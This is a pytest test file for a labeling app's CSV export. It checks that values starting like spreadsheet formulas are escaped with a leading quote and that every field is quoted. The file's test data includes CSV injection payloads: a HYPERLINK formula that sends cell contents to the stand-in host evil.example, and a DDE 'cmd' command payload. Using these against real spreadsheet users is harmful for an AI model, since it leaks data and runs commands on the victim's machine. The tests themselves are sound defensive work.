"""CSV exports cannot run formulas: class names, file names and usernames that start like a formula
(``=``, ``+``, ``-``, ``@``, tab, CR) are escaped as OWASP's CSV injection guidance says (a leading
single quote, every field in double quotes)."""

from __future__ import annotations

import csv
import io

import pytest

from labelapp.images.services import image_add
from labelapp.labeling.models import Annotation, Source
from labelapp.lib.spreadsheet import csv_cell
from labelapp.projects.models import LabelClass
from tests.labelapp.images.helpers import demo_pngs

HOSTILE_CLASSES = ['=HYPERLINK("http://evil.example/?"&A1,"click")', "+cmd|' /C calc'!A0", "@SUM(1+1)*cmd"]
HOSTILE_FILES = ["=1+2.png", "-2+3.png", "@lol.png"]


@pytest.mark.parametrize("text", ["=1", "+1", "-1", "@1", "\t=1", "\r=1"])
def test_it_prefixes_every_formula_start_with_a_quote(text):
    assert csv_cell(text) == "'" + text


@pytest.mark.parametrize("text", ["shirt", "a=b", "", " =1", "'=1"])
def test_it_leaves_ordinary_text_alone(text):
    assert csv_cell(text) == text


def test_it_escapes_formula_class_and_file_names_in_the_csv_download(project, owner, owner_client):
    for label_class, name in zip(project.classes.order_by("index"), HOSTILE_CLASSES, strict=True):
        LabelClass.objects.filter(pk=label_class.pk).update(name=name)
    for (_, data), file_name, label_class in zip(demo_pngs(3), HOSTILE_FILES, project.classes.order_by("index"), strict=True):
        image, _ = image_add(project=project, name=file_name, data=data, user=owner)
        Annotation.objects.create(image=image, project=project, label_class=label_class, source=Source.HUMAN, annotator=owner)

    response = owner_client.get(f"/p/{project.slug}/exports/labels/", {"format": "csv"})
    assert response.status_code == 200
    body = b"".join(response.streaming_content).decode()
    rows = list(csv.DictReader(io.StringIO(body)))
    assert sorted(row["label"] for row in rows) == sorted("'" + name for name in HOSTILE_CLASSES)
    assert sorted(row["filename"] for row in rows) == sorted("'" + name for name in HOSTILE_FILES)
    for line in body.splitlines():
        assert line.startswith('"') and line.endswith('"'), line  # every field quoted
        assert not any(cell.startswith(("=", "+", "-", "@")) for cell in next(csv.reader([line])))
